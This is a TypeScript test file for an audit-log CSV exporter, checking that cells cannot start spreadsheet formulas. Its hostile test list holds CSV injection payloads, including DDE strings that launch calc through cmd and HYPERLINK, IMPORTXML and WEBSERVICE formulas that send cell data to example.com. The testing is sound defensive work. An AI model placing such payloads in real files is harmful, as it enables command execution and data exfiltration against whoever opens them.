import { formatCsvCell, formatCsvLine } from '@server/features/audit/csv';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { verifies } from '../../support/service/verifies';

/** Characters that begin a formula in a spreadsheet, or that it drops before one. */
const DANGEROUS = /^[=+\-@\t\r\n\0\uFE62\uFE63\uFE66\uFE6B\uFF0B\uFF0D\uFF1D\uFF20]/u;

const hostile = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.com?x="&A1,"click")',
  '=IMPORTXML(CONCAT("http://example.com/?v=",A1),"//a")',
  '=WEBSERVICE("http://example.com/")',
  '=DDE("cmd";"/C calc";"!A0")',
  "=@SUM(1+1)*cmd|' /C calc'!A0",
  '==1',
  '=',
  '+1+1',
  "+1+cmd|' /C calc'!A0",
  '+351 912 345 678',
  '++',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '-',
  '--',
  '@SUM(1+1)',
  '@cmd',
  '@',
  '\t=1+1',
  '\t',
  '\t\t-1',
  '\r=1+1',
  '\r',
  '\n=1+1',
  '\n',
  '\r\n=1+1',
  '\0=1+1',
  '\0',
  '\uFF1D1+1',
  '\uFF0B1',
  '\uFF0D1',
  '\uFF20SUM(1)',
  '\uFE66' + '1+1',
  '\uFE62' + '1',
  '\uFE63' + '1',
  '\uFE6B' + 'x',
  ' =1+1',
  '   +1',
  '\u00A0=1',
  '\u3000=1',
  '"=1+1"',
  "'=1+1",
  '"',
  '""',
  '"""=1',
  'a"b',
  'a,=1+1',
  'a;=1+1',
  'a\t=1+1',
  'a\n=1+1',
  'a\r\n-1',
  'a;"=1+1"',
  'a; =1+1',
  ";=cmd|' /C calc'!A0;",
  ',@x',
  'a,b\r\nc,d',
  ';',
  'x;\uFF1D1',
] as const;

const getRows = (text: string, delimiter = ','): string[][] =>
  parse(text, { delimiter, relax_quotes: true, relax_column_count: true });

describe('a cell', () => {
  it('sixty hostile ones are known', () => {
    expect(new Set(hostile).size).toBe(60);
  });

  it.each(hostile)('%j begins no formula, and its text is still there', (text) => {
    const [row] = getRows(formatCsvLine(['1', text, 'end']));
    expect(row).toHaveLength(3);
    const [, cell = ''] = row ?? [];
    expect(cell).not.toMatch(DANGEROUS);
    expect(cell.trimStart()).not.toMatch(DANGEROUS);
    expect(cell.replaceAll("'", '')).toBe(text.replaceAll("'", ''));
  });

  it.each(hostile)('%j begins none for a program that splits at semicolons or tabs either', (text) => {
    const line = formatCsvLine(['1', text, 'end']);
    for (const delimiter of [';', '\t'])
      for (const cell of line.slice(0, -2).split(delimiter).slice(1))
        expect(cell.replace(/^[ "\u00A0\u3000]+/u, '')).not.toMatch(DANGEROUS);
  });

  it.each([
    ['harmless', 'harmless'],
    ['a+b@example.com', 'a+b@example.com'],
    ['2026-11-21T09:00:00.000Z', '2026-11-21T09:00:00.000Z'],
    ['res-1', 'res-1'],
    ['1-5000:ab-cd', '1-5000:ab-cd'],
    ['::1', '::1'],
    ["it's", "it's"],
    ['', ''],
  ])('%j stays as it is', (text, cell) => {
    expect(formatCsvCell(text)).toBe(cell);
  });

  it('of nothing is empty, of a number its digits', () => {
    expect(formatCsvLine([null, 0, 12, ''])).toBe(',0,12,\r\n');
  });

  verifies('audit.export', 'comes back as it was, less its apostrophes, from any text at all', () => {
    const text = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.string({ unit: fc.constantFrom(...'=+-@ \t\r\n\0;,"\'a\uFF1D\u3000') }),
    );
    const texts = fc.array(text, { minLength: 1, maxLength: 6 });
    fc.assert(
      fc.property(texts, (cells) => {
        const rows = getRows(formatCsvLine(['first', ...cells]));
        expect(rows).toHaveLength(1);
        expect(rows[0]?.slice(1).map((cell) => cell.replaceAll("'", ''))).toEqual(
          cells.map((cell) => cell.replaceAll("'", '')),
        );
        for (const cell of rows[0] ?? []) expect(cell).not.toMatch(DANGEROUS);
      }),
    );
  });
});
